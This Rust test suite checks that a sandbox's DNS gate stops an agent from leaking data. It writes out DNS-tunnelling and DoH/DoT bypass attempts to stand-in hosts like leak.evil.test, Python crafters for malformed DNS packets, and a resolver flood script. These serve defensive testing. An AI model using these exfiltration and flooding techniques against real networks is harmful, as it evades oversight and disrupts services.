//! The first lock: what may be asked, what of it goes upstream, and what comes of the answer.

use serde_json::json;

use crate::common::{
    GET, all_refused_fast, everybody, gets_through, nothing_to, only_questions_to, packets_to, python,
    python_outside, refused_fast, until,
};
use crate::rig::{AGENT, BoxOptions, ROOT, Rig, RunningBox, host};

const RESOLVER: &str = "127.0.0.53";

fn answer(guest: &RunningBox, user: &str, args: &[&str]) -> String {
    guest.client(user, &[&["dns"], args].concat()).both().trim().to_owned()
}

#[test]
fn t02_no_other_type_of_record_goes_upstream_or_comes_back() {
    let types = ["TXT", "NULL", "ANY", "NS", "MX", "SRV", "CNAME", "HTTPS", "SVCB", "TYPE65280"];
    let values = json!([
        ["A", host("ok"), 60],
        ["TXT", "reply-leak", 60],
        ["NULL", "6c65616b", 60],
        ["NS", "leak.evil.test", 60],
        ["MX", "10 leak.evil.test", 60],
        ["SRV", "1 1 443 leak.evil.test", 60],
        // Priority 1, the name itself, ech with four octets.
        ["HTTPS", "00010000050004deadbeef", 60],
        ["SVCB", "00010000050004deadbeef", 60],
        ["TYPE65280", "6c65616b", 60]
    ]);
    let Some(rig) = Rig::with_zone(|zone| zone["records"]["ok.test"] = values) else { return };
    for kind in types {
        let said = gets_through(&rig, &["dns", "9.9.9.53", "ok.test", kind]);
        assert!(said.starts_with("NOERROR"), "{kind}: {said}");
    }
    let of_other_types = || {
        let log = rig.world.log("dns");
        log.into_iter().filter(|one| one["type"] != "A" && one["type"] != "AAAA").count()
    };
    assert_eq!(of_other_types(), types.len());
    let guest = rig.boot(&BoxOptions::new().allow("ok.test;*.wild.test"));
    for kind in types {
        for server in [RESOLVER, "9.9.9.53", &host("evil")] {
            for user in [AGENT, ROOT] {
                let said = answer(&guest, user, &[server, "ok.test", kind]);
                assert!(said == "NOERROR" || said == "REFUSED", "{kind} of {server} as {user}: {said}");
            }
        }
        // Below a wildcard the label itself would be the message.
        answer(&guest, AGENT, &[RESOLVER, &format!("leak-{kind}.wild.test"), kind]);
    }
    assert_eq!(of_other_types(), types.len(), "{:?}", rig.world.log("dns"));
    assert!(!rig.world.saw("leak-"), "{:?}", rig.world.asked());
    assert_eq!(answer(&guest, AGENT, &[RESOLVER, "ok.test"]), format!("NOERROR {}", host("ok")));
}

/// Sends one packet of DNS to a server: an operation code, a class, header bits, a second question, records and EDNS
/// options, all of which a message could hide in.
const ODD_QUESTIONS: &str = r#"
import socket, struct, sys
def name(text): return b"".join(bytes([len(l)]) + l.encode() for l in text.split(".")) + b"\0"
def ask(what, packet):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(packet, ("SERVER", 53))
    try:
        print(what, s.recv(4096)[3] & 15)
    except OSError as error:
        print(what, error.__class__.__name__)
question = name("ok.test") + struct.pack("!HH", 1, 1)
def head(flags=0x0100, qd=1, an=0, ns=0, ar=0): return struct.pack("!6H", 0x4242, flags, qd, an, ns, ar)
edns = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 12) + struct.pack("!HH", 65001, 8) + b"edns-SIG"
subnet = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 11) + struct.pack("!HHHBB", 8, 7, 1, 24, 0) + b"sub"
record = name("rec-SIG.test") + struct.pack("!HHIH", 16, 1, 60, 9) + b"\x08text-SIG"
ask("edns", head(ar=1) + question + edns)
ask("subnet", head(ar=1) + question + subnet)
ask("records", head(an=1, ns=1, ar=1) + question + record * 3)
ask("second", head(qd=2) + question + name("second-SIG.test") + struct.pack("!HH", 1, 1))
ask("chaos", head() + name("ok.test") + struct.pack("!HH", 1, 3))
for code in (1, 2, 4, 5, 15):
    ask(f"opcode {code}", head(flags=code << 11) + name("ok.test") + struct.pack("!HH", 1, 1) + record)
ask("bits", head(flags=0x0170) + question)
ask("trailing", head() + question + b"trailing-SIG")
"#;

#[test]
fn t02_nothing_of_the_clients_packet_but_its_question_goes_upstream() {
    let Some(rig) = Rig::new() else { return };
    let hex = |text: &str| text.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
    let whole = || std::fs::read_to_string(rig.world.dir.join("net.log")).unwrap();
    let program = |sign: &str, server: &str| ODD_QUESTIONS.replace("SIG", sign).replace("SERVER", server);
    python_outside(&rig, &program("out", "9.9.9.53"));
    rig.world.sync();
    assert!(whole().contains(&hex("edns-out")) && whole().contains(&hex("trailing-out")), "{}", whole());
    let before = whole().len();
    let guest = rig.boot(&BoxOptions::new());
    let mark = rig.world.sync();
    for user in [AGENT, ROOT] {
        for server in [RESOLVER, "9.9.9.53", "8.8.8.8"] {
            let said = python(&guest, user, &program("box", server)).expect("the questions");
            // A question with an option is a question; an operation that is none gets an error.
            assert!(said.contains("edns 0") && !said.contains("opcode 5 0"), "{said}");
        }
    }
    only_questions_to(&rig, mark, "9.9.9.53");
    let log = whole().split_off(before);
    for sign in ["edns-box", "text-box", "rec-box", "second-box", "trailing-box"] {
        assert!(!log.contains(&hex(sign)) && !rig.world.saw(sign), "{sign}: {log}");
    }
    // What goes up was written anew: one question, and EDNS without any option.
    let plain = ["", "00002904d0000000000000", "00002904d0000000800000"];
    for line in log.lines().filter(|line| line.contains(r#""kind": "dns""#)) {
        let asked: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(asked["opcode"] == 0 && asked["counts"][0] == 1 && asked["counts"][1] == 0, "{asked}");
        assert!(asked["extra"].as_str().is_some_and(|extra| plain.contains(&extra)), "{asked}");
    }
}

#[test]
fn t03_the_upstream_itself_is_the_workers_alone() {
    let Some(rig) = Rig::new() else { return };
    let direct = ["dns", "9.9.9.53", "leak.evil.test", "A"];
    assert!(gets_through(&rig, &direct).contains(&host("evil")));
    let before = rig.world.asked().len();
    let guest = rig.boot(&BoxOptions::new());
    for (who, done) in everybody(&guest, &direct) {
        assert_eq!(done.out, "NXDOMAIN\n", "{who}: {done:?}");
    }
    // From the port that the worker would use, from any source address of the box, and on a connected flow.
    let bound = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\n\
                 s.bind(('172.31.77.2', 53535))\nfor i in range(3):\n s.sendto(b'leak of bytes', ('9.9.9.53', 53))";
    let mark = rig.world.sync();
    for user in [AGENT, ROOT] {
        python(&guest, user, bound);
        guest.client(user, &["udp", "9.9.9.53", "53", "leak"]);
        guest.client(user, &["udp", "9.9.9.53", "5353", "leak"]);
        guest.client(user, &["tcp", "9.9.9.53", "80", "leak"]);
        guest.client(user, &["ping", "9.9.9.53", "leak"]);
    }
    only_questions_to(&rig, mark, "9.9.9.53");
    let asked = rig.world.asked().split_off(before);
    assert!(asked.iter().all(|name| !name.contains("leak")) && !rig.world.saw("leak of"), "{asked:?}");
    // The same path is open for the worker: an allowed name that nobody asked yet is answered.
    assert!(answer(&guest, AGENT, &["9.9.9.53", "ok.test"]).contains(&host("ok")));
}

#[test]
fn t04_dns_by_tcp_reaches_neither_the_upstream_nor_a_rogue() {
    let Some(rig) = Rig::new() else { return };
    let servers = ["upstream", "evil", "evil_v6", "google_dns"].map(host);
    for server in &servers {
        let said = gets_through(&rig, &["dns", server, "leak.evil.test", "TXT", "tcp"]);
        assert!(said.contains("token-"), "{server}: {said}");
    }
    let guest = rig.boot(&BoxOptions::new());
    let (mark, before) = (rig.world.sync(), rig.world.asked().len());
    for server in &servers {
        for (who, done) in everybody(&guest, &["dns", server, "leak.evil.test", "TXT", "tcp"]) {
            assert_eq!(done.out, "NXDOMAIN\n", "{who} of {server}: {done:?}");
        }
        // The resolver that answers in their place speaks DNS alone.
        guest.client(AGENT, &["tcp", server, "53", "leak over tcp"]);
        guest.client(ROOT, &["tcp", server, "53", "leak over tcp"]);
    }
    let packets = rig.world.packets_since(mark);
    assert!(packets.iter().all(|one| one["proto"] != "tcp" && one["dst"] == "9.9.9.53"), "{packets:?}");
    assert!(rig.world.asked().split_off(before).iter().all(|name| !name.contains("leak")));
    assert!(!rig.world.saw("leak over"));
}

#[test]
fn t06_dns_over_tls_reaches_neither_an_open_address_nor_the_upstream() {
    let Some(rig) = Rig::new() else { return };
    let servers = ["ok", "upstream", "evil", "ok_v6"].map(host);
    let attempts: Vec<[&str; 4]> =
        servers.iter().flat_map(|server| ["tcp", "udp"].map(|kind| [kind, server, "853", "leak"])).collect();
    for attempt in &attempts {
        gets_through(&rig, attempt);
    }
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80;onlysix.test:443,80"));
    let mark = rig.world.sync();
    all_refused_fast(&guest, &attempts);
    let packets = rig.world.packets_since(mark);
    assert!(packets.iter().all(|one| one["dport"] != 853), "{packets:?}");
    // Port 853 is refused, not the addresses.
    for name in ["ok.test", "onlysix.test"] {
        let page = guest.exec_agent(&format!("curl -sS -m 5 http://{name}/"));
        assert!(page.out.contains("token-"), "{name}: {page:?}");
    }
}

#[test]
fn t07_a_resolver_over_https_is_not_there_by_name_nor_by_address() {
    let Some(rig) = Rig::new() else { return };
    let ask = |address: &str, name: &str| {
        format!(
            "curl -gsSk -m 3 --noproxy '*' --resolve '{name}:443:{address}' https://{name}/dns-query?leak"
        )
    };
    let targets = [
        (host("evil"), "dns.evil.test"),
        (host("google_dns"), "dns.google"),
        (host("cloudflare_dns"), "cloudflare-dns.com"),
        (host("evil_v6"), "dns.evil.test"),
        // At an address that is open for another name.
        (host("cdn"), "dns.evil.test"),
        // A listed name in the handshake does not make the address a listed one.
        (host("evil"), "ok.test"),
    ];
    for (address, name) in &targets {
        let bracketed = if address.contains(':') { format!("[{address}]") } else { address.clone() };
        let page = rig.inside(&ask(&bracketed, name));
        assert!(page.out.contains("token-"), "{name}: {page:?}");
    }
    assert!(rig.in_pause("getent hosts dns.evil.test").ok());
    let before = rig.world.log("tls").len();
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80;cdn.test"));
    let mark = rig.world.sync();
    for (address, name) in &targets {
        let bracketed = if address.contains(':') { format!("[{address}]") } else { address.clone() };
        for user in [AGENT, ROOT] {
            let page = guest.exec(user, &ask(&bracketed, name));
            // For a name that is listed the gate goes to where that name leads.
            let real = page.out.contains(&format!("token-{}-ok.test", host("ok"))) && *name == "ok.test";
            assert!(real || !page.ok() && page.out.is_empty(), "{name} as {user}: {page:?}");
        }
        nothing_to(&rig, mark, address);
    }
    for name in ["dns.evil.test", "dns.google", "cloudflare-dns.com"] {
        assert_eq!(answer(&guest, AGENT, &[RESOLVER, name]), "NXDOMAIN", "{name}");
    }
    let shown = rig.world.log("tls").split_off(before);
    assert!(
        shown.iter().all(|one| one["sni"] == "ok.test" && one["local"] == host("ok").as_str()),
        "{shown:?}"
    );
}

/// Addresses that no public name has any business with, and those of them that a packet could be sent to.
const SPECIAL: &[&str] = &[
    "10.20.0.5",
    "192.168.1.5",
    "172.19.0.5",
    "169.254.169.254",
    "100.64.0.5",
    "224.0.0.1",
    "240.0.0.1",
    "198.18.0.1",
    "192.0.2.1",
    "203.0.113.1",
    "192.88.99.1",
];
const LOCAL: &[&str] = &["127.0.0.1", "127.0.0.53", "0.0.0.0", "0.1.2.3", "255.255.255.255"];
const SPECIAL_V6: &[&str] = &[
    "fd00:ec2::254",
    "fdaa::3",
    "64:ff9b::a14:5",
    "64:ff9b::a9fe:a9fe",
    "64:ff9b:1::a14:5",
    "2002:a14:5::1",
    "2001:0:a14:5::1",
    "2001:db8::5",
    "ff02::1",
    "fe80::1",
    "100::1",
    "::ffff:10.20.0.5",
    "::ffff:169.254.169.254",
    "::10.20.0.5",
    "::1",
    "::",
];

#[test]
fn t08_an_allowed_name_opens_no_special_address() {
    let records: Vec<_> = SPECIAL
        .iter()
        .chain(LOCAL)
        .map(|one| json!(["A", one, 5]))
        .chain(SPECIAL_V6.iter().map(|one| json!(["AAAA", one, 5])))
        .collect();
    let mut mixed = records.clone();
    mixed.insert(3, json!(["A", host("ok2"), 5]));
    mixed.push(json!(["AAAA", host("ok_v6"), 5]));
    let Some(rig) = Rig::with_zone(|zone| {
        zone["records"]["bad.test"] = json!(records);
        zone["records"]["mixed.test"] = json!(mixed);
    }) else {
        return;
    };
    for (kind, some) in [("A", "10.20.0.5"), ("AAAA", "64:ff9b::a14:5")] {
        assert!(gets_through(&rig, &["dns", "9.9.9.53", "bad.test", kind, "tcp"]).contains(some));
    }
    let reachable = [
        "10.20.0.5",
        "192.168.1.5",
        "169.254.169.254",
        "100.64.0.5",
        "198.18.0.1",
        "64:ff9b::a14:5",
        "2002:a14:5::1",
        "fdaa::3",
    ];
    for address in reachable {
        gets_through(&rig, &["tcp", address, "80", GET]);
    }
    let guest = rig.boot(&BoxOptions::new().allow("ok.test;bad.test:80,443;mixed.test:80,443"));
    let mark = rig.world.sync();
    for user in [AGENT, ROOT] {
        for kind in ["A", "AAAA"] {
            let said = answer(&guest, user, &[RESOLVER, "bad.test", kind, "tcp"]);
            assert!(["NXDOMAIN", "SERVFAIL", "NOERROR"].contains(&said.as_str()), "{kind}: {said}");
        }
        let said = answer(&guest, user, &[RESOLVER, "mixed.test", "A", "tcp"]);
        assert_eq!(said, format!("NOERROR {}", host("ok2")));
        let said = answer(&guest, user, &[RESOLVER, "mixed.test", "AAAA", "tcp"]);
        assert_eq!(said, format!("NOERROR {}", host("ok_v6")));
        let each = SPECIAL.iter().chain(SPECIAL_V6).flat_map(|address| {
            ["80", "443"]
                .map(|port| ["tcp", &format!("bad.test@{address}"), port, GET].map(str::to_owned).to_vec())
        });
        guest.clients(Some(user), &each.collect::<Vec<_>>());
    }
    only_questions_to(&rig, mark, "9.9.9.53");
    let denials = guest.innkeeper(&["log", "--denied"]).expect("the log");
    assert!(denials.contains("bad.test"), "{denials}");
    let page = guest.exec_agent("curl -sS -m 5 http://mixed.test/");
    assert!(page.out.contains("token-"), "{page:?}");
}

#[test]
fn t10_an_alias_is_followed_for_the_asked_name_only() {
    let far = "93.184.215.200";
    let Some(rig) = Rig::with_zone(|zone| {
        let records = &mut zone["records"];
        records["alias.test"] = json!([["CNAME", "edge.evil.test", 9]]);
        records["edge.evil.test"] = json!([["A", far, 9]]);
        for hop in 0..12 {
            records[format!("hop{hop}.test")] = json!([["CNAME", format!("hop{}.test", hop + 1), 9]]);
        }
        records["hop12.test"] = json!([["A", far, 9]]);
        records["loop1.test"] = json!([["CNAME", "loop2.test", 9]]);
        records["loop2.test"] = json!([["CNAME", "loop1.test", 9]]);
        records["self.test"] = json!([["CNAME", "self.test", 9]]);
        for hop in 0..40 {
            records[format!("long{hop}.test")] = json!([["CNAME", format!("long{}.test", hop + 1), 9]]);
        }
        records["long40.test"] = json!([["A", far, 9]]);
    }) else {
        return;
    };
    assert!(gets_through(&rig, &["dns", "9.9.9.53", "edge.evil.test"]).contains(far));
    assert!(gets_through(&rig, &["dns", "9.9.9.53", "hop0.test"]).contains(far));
    let rules = "ok.test;*.wild.test;alias.test:80;hop0.test:80;loop1.test;self.test;long0.test";
    let guest = rig.boot(&BoxOptions::new().allow(rules));
    let before = rig.world.asked().len();
    for user in [AGENT, ROOT] {
        for name in ["alias.test", "hop0.test"] {
            assert!(answer(&guest, user, &[RESOLVER, name]).contains(far), "{name} as {user}");
            let page = guest.exec(user, &format!("curl -sS -m 5 http://{name}/"));
            assert!(page.out.contains(&format!("token-{far}")), "{name} as {user}: {page:?}");
        }
        for target in ["edge.evil.test", "hop1.test", "hop12.test", "loop2.test", "long1.test"] {
            assert_eq!(answer(&guest, user, &[RESOLVER, target]), "NXDOMAIN", "{target} as {user}");
        }
        for endless in ["loop1.test", "self.test", "long0.test"] {
            // The client waits for two seconds.
            assert_eq!(answer(&guest, user, &[RESOLVER, endless]), "SERVFAIL", "{endless} as {user}");
        }
    }
    // Each chain was asked for a bounded number of times, by clients and by the refresh together.
    let asked = rig.world.asked().split_off(before);
    for chain in ["loop", "self", "long"] {
        let count = asked.iter().filter(|name| name.starts_with(chain)).count();
        assert!(count < 500, "{chain}: {count}");
    }
    assert!(answer(&guest, AGENT, &[RESOLVER, "new.wild.test"]).contains(&host("ok")));
}

#[test]
fn t10_records_beside_the_chain_open_nothing() {
    let evil = host("evil");
    let stray = json!({"stray": [["other.test", "A", evil, 60], ["ok.test.evil.test", "A", evil, 60]]});
    let Some(rig) = Rig::with_zone(|zone| zone["names"]["ok.test"] = stray) else { return };
    assert!(gets_through(&rig, &["dns", "9.9.9.53", "ok.test"]).contains(&evil));
    gets_through(&rig, &["tcp", &evil, "80", GET]);
    let guest = rig.boot(&BoxOptions::new());
    let mark = rig.world.sync();
    assert_eq!(answer(&guest, AGENT, &[RESOLVER, "ok.test"]), format!("NOERROR {}", host("ok")));
    refused_fast(&guest, &["tcp", &evil, "80", GET]);
    refused_fast(&guest, &["tcp", &evil, "443", "leak"]);
    nothing_to(&rig, mark, &evil);
}

#[test]
fn t13_a_ttl_of_zero_works_and_what_it_opened_ends() {
    let pool: Vec<String> = (0..10).map(|number| format!("93.184.215.{}", 60 + number)).collect();
    let rotating: Vec<_> = pool.iter().map(|address| json!(["A", address, 0])).collect();
    let once = "93.184.215.90";
    let Some(rig) = Rig::with_zone(|zone| {
        zone["records"]["zero.test"] = json!(rotating);
        zone["names"]["zero.test"] = json!({"rotate": 1});
        zone["records"]["*.zero.test"] = json!([["A", once, 0]]);
    }) else {
        return;
    };
    gets_through(&rig, &["tcp", once, "9999", "hello"]);
    let guest = rig.boot(&BoxOptions::new().allow("zero.test:80,9999;*.zero.test:80,9999"));
    // Ten times as the names of tests are: looked up and connected to, each time anew.
    for user in [AGENT, ROOT] {
        for _ in 0..5 {
            let page = guest.exec(user, "curl -sS -m 5 http://zero.test/");
            assert!(page.out.contains("token-93.184.215."), "{page:?}");
        }
    }
    assert!(guest.exec_agent("curl -sS -m 5 http://a.zero.test/").out.contains(&format!("token-{once}")));
    // A port that the gate has no part in: there the address is the lock.
    assert!(guest.client(AGENT, &["tcp", once, "9999", "hello"]).ok(), "the grace");
    // Nobody renews what a wildcard let in.
    until("the address closes", std::time::Duration::from_secs(150), || {
        !guest.client(AGENT, &["tcp", once, "9999", "hello"]).ok()
    });
    let mark = rig.world.sync();
    refused_fast(&guest, &["tcp", once, "9999", "leak"]);
    refused_fast(&guest, &["tcp", once, "80", GET]);
    nothing_to(&rig, mark, once);
    assert!(guest.exec_agent("curl -sS -m 5 http://a.zero.test/").out.contains(&format!("token-{once}")));
}

#[test]
fn t15_the_case_of_a_question_is_not_a_message() {
    let Some(rig) = Rig::new() else { return };
    let spelled = "aLtErNaTiNgLeTtErSaReAmEsSaGe.WiLd.TeSt";
    gets_through(&rig, &["dns", "9.9.9.53", spelled]);
    let as_sent = || -> Vec<String> {
        let log = rig.world.log("dns");
        log.iter().filter_map(|one| one["name"].as_str().map(str::to_owned)).collect()
    };
    assert!(as_sent().contains(&spelled.to_owned()));
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80;*.wild.test"));
    let before = as_sent().len();
    for user in [AGENT, ROOT] {
        for server in [RESOLVER, "9.9.9.53"] {
            for name in ["OK.TEST", "oK.tEsT", spelled, &spelled.to_uppercase(), &spelled.to_lowercase()] {
                let said = answer(&guest, user, &[server, name]);
                assert_eq!(said, format!("NOERROR {}", host("ok")), "{name} as {user}");
            }
        }
    }
    let page = guest.exec_agent("curl -sS -m 5 http://Ok.TeSt/");
    assert!(page.out.contains("token-"), "{page:?}");
    let sent = as_sent().split_off(before);
    let ours: Vec<&String> =
        sent.iter().filter(|name| name.to_lowercase().starts_with("alternating")).collect();
    // One question however it is spelled, and its case is the engine's (0x20), not the client's.
    assert_eq!(ours.len(), 1, "{ours:?}");
    assert!(ours.iter().all(|name| *name != spelled), "{ours:?}");
}

/// 249 octets of labels.
fn long_labels() -> String {
    ["a".repeat(63), "b".repeat(63), "c".repeat(63), "d".repeat(57)].join(".")
}

/// Names that are not listed, but might be taken for one that is.
fn lookalikes() -> Vec<String> {
    let long = long_labels();
    vec![
        "notok.test".to_owned(),
        "ok.test.evil.test".to_owned(),
        "ok.testx".to_owned(),
        "xok.test".to_owned(),
        "ok-test".to_owned(),
        "ok.tes".to_owned(),
        "k.test".to_owned(),
        "sub.ok.test".to_owned(),
        "wild.test".to_owned(),
        "xwild.test".to_owned(),
        "a.wild.test.evil.test".to_owned(),
        "wild.test.".repeat(3) + "evil.test",
        // One label that holds a dot, a zero octet, a star; and octets beyond ASCII.
        r"ok\046test".to_owned(),
        r"ok.test\000.evil.test".to_owned(),
        r"ok\000.test".to_owned(),
        r"\042.evil.test".to_owned(),
        r"a\046wild.test".to_owned(),
        r"ok\255.test".to_owned(),
        r"o\032k.test".to_owned(),
        format!("{long}.test"),
        format!("{long}.{long}"),
        "x".repeat(64) + ".ok.test",
    ]
}

#[test]
fn t17_names_that_only_look_like_a_listed_one_are_not_asked() {
    let Some(rig) =
        Rig::with_zone(|zone| zone["servers"]["9.9.9.53"] = json!({"fallback": [["A", host("evil"), 60]]}))
    else {
        return;
    };
    let (names, long) = (lookalikes(), long_labels());
    for name in &names {
        let said = rig.outside(&["dns", "9.9.9.53", name]);
        assert!(
            said.out.contains(&host("evil")) || name.len() > 250 || name.starts_with("xxx"),
            "{name}: {said:?}"
        );
    }
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80;*.wild.test"));
    let before = rig.world.asked().len();
    for name in &names {
        for transport in ["udp", "tcp"] {
            for user in [AGENT, ROOT] {
                let said = answer(&guest, user, &["9.9.9.53", name, "A", transport]);
                assert!(!said.starts_with("NOERROR"), "{name} as {user} by {transport}: {said}");
            }
        }
    }
    for name in ["ok.test..", "..ok.test", ".ok.test", "ok..test"] {
        assert!(!guest.exec_agent(&format!("getent ahostsv4 {name}")).ok(), "{name}");
    }
    let profiles =
        ["anthropic.com", "claude", "github", "npm", "pypi", "crates", "rust", "debian", "node", "python"];
    let asked = rig.world.asked().split_off(before);
    let strange: Vec<&String> = asked
        .iter()
        .filter(|name| {
            *name != "ok.test" && (name.contains("test") || name.contains("evil") || name.contains("aaaa"))
        })
        .filter(|name| !profiles.iter().any(|part| name.contains(part)))
        .collect();
    assert!(strange.is_empty(), "{strange:?}");
    // One dot at the end is how a name is written in full; the longest name below a wildcard is a name.
    for name in ["ok.test.", "a.wild.test.", &format!("{}.wild.test", &long[..240])] {
        let said = answer(&guest, AGENT, &[RESOLVER, name, "A", "tcp"]);
        assert!(said.starts_with("NOERROR "), "{name}: {said}");
    }
}

/// Sends questions for random names as fast as it can, keeps idle connections, and prints how many.
const FLOOD: &str = r#"
import os, socket, struct, sys, time
idle = []
for i in range(2000):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("127.0.0.53", 53))
    idle.append(s)
print("idle", flush=True)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.setblocking(False)
# Fifty thousand a second, for six seconds.
sent, begin = 0, time.monotonic()
while sent < 300_000 and time.monotonic() < begin + 20:
    if sent > (time.monotonic() - begin) * 50_000:
        continue
    label = b"flood" + os.urandom(12).hex().encode()
    packet = struct.pack("!6H", sent & 65535, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x04evil\x04test\0\0\x01\0\x01"
    try:
        u.sendto(packet, ("127.0.0.53", 53))
        sent += 1
    except BlockingIOError:
        pass
print("sent", sent, flush=True)
sys.stdin.read()
"#;

#[test]
fn t20_floods_of_denied_names_and_idle_connections_hurt_nobody_else() {
    let Some(rig) = Rig::new() else { return };
    rig.outside(&["dns", "9.9.9.53", "flood0.evil.test"]);
    assert!(rig.world.asked().contains(&"flood0.evil.test".to_owned()));
    let before_flood = rig.world.asked().len();
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:80;*.wild.test:80"));
    let memory = || -> u64 {
        let read = "awk '/^Pss:/ { sum += $2 } END { print sum }' /proc/1/smaps_rollup $(for p in $(pgrep -x innkeeper-dns); do echo /proc/$p/smaps_rollup; done)";
        let said = guest.exec_root(read);
        said.out.trim().parse().unwrap_or_else(|_| panic!("{said:?}"))
    };
    let (lines, kilobytes) = (guest.logs().lines().count(), memory());
    let mut flood = guest.spawn(AGENT, &["python3", "-c", FLOOD]);
    assert_eq!(flood.hear(), "idle");
    // New names, so that each of them goes upstream and through the firewall, by both transports.
    for number in 0..10 {
        let name = format!("tcp{number}.wild.test");
        let said = answer(&guest, AGENT, &[RESOLVER, &name, "A", "tcp"]);
        assert_eq!(said, format!("NOERROR {}", host("ok")), "{name}");
        // As programs ask: by UDP, and once more where a packet was lost.
        let ask = format!("getent ahostsv4 udp{number}.wild.test");
        let said = guest.exec_agent(&format!("{ask} || {ask}"));
        assert!(said.out.contains(&host("ok")), "{number}: {said:?}");
    }
    // glibc asks again after five seconds where a packet was lost.
    assert!(guest.exec_agent("curl -sS -m 20 http://ok.test/").out.contains("token-"));
    let said = flood.hear();
    let sent: u64 = said.strip_prefix("sent ").unwrap().parse().unwrap();
    assert!(sent > 10_000, "that was no flood: {sent}");
    let status = guest.status();
    assert!(status["dns"]["denied"].as_u64().unwrap() > 1000, "{}", status["dns"]);
    assert!(status["denials"].as_array().unwrap().len() <= 64);
    let (lines, kilobytes) = (guest.logs().lines().count() - lines, memory().saturating_sub(kilobytes));
    assert!(lines < 500, "{lines} lines in the log");
    assert!(kilobytes < 30_000, "{kilobytes} KiB more");
    flood.end();
    let asked = rig.world.asked().split_off(before_flood);
    assert!(!asked.iter().any(|name| name.starts_with("flood")), "{asked:?}");
}

/// Looks new names up and connects in the same breath, many at a time; prints what failed and how many did not.
const RACE: &str = r#"
import concurrent.futures, socket
def one(number):
    try:
        address = socket.getaddrinfo(f"n{number}.wild.test", 9999, socket.AF_INET, socket.SOCK_STREAM)[0][4]
        with socket.socket() as s:
            s.settimeout(10)
            s.connect(address)
            s.sendall(b"race\n")
            said = s.recv(100).decode()
        return "" if said.startswith(f"token-{address[0]}-tcp") else f"n{number} {address}: {said!r}"
    except OSError as error:
        return f"n{number}: {error}"
with concurrent.futures.ThreadPoolExecutor(50) as pool:
    done = list(pool.map(one, range(500)))
print(len([x for x in done if not x]), [x for x in done if x][:5])
"#;

#[test]
fn t22_no_connection_that_follows_its_answer_at_once_fails() {
    let pool: Vec<_> = (0..200).map(|number| json!(["A", format!("93.184.214.{number}"), 1])).collect();
    let Some(rig) = Rig::with_zone(|zone| {
        zone["records"]["*.wild.test"] = json!(pool);
        zone["names"]["*.wild.test"] = json!({"rotate": 1});
        // Every name begins elsewhere.
        for number in 0..500 {
            let own = [json!(["A", format!("93.184.{}.{}", 200 + number % 10, number % 250), 1])];
            zone["records"][format!("n{number}.wild.test")] = json!(own);
        }
    }) else {
        return;
    };
    let run = |guest: Option<&RunningBox>| match guest {
        Some(guest) => guest.exec_program(AGENT, &["python3", "-c", RACE]),
        None => {
            let race = rig.file("race.py", RACE);
            crate::rig::run_with_input(
                "docker",
                &["exec", "-i", &rig.pause, "python3", "-"],
                &std::fs::read_to_string(race).unwrap(),
            )
        }
    };
    assert_eq!(run(None).out, "500 []\n");
    let guest = rig.boot(&BoxOptions::new().allow("*.wild.test:9999"));
    // 9999 is for the addresses that were answered alone.
    let never = "93.184.199.1";
    let mark = rig.world.sync();
    refused_fast(&guest, &["tcp", never, "9999", "leak"]);
    let done = run(Some(&guest));
    assert_eq!(done.out, "500 []\n", "{done:?}");
    assert_eq!(packets_to(&rig, mark, never), [] as [String; 0]);
}
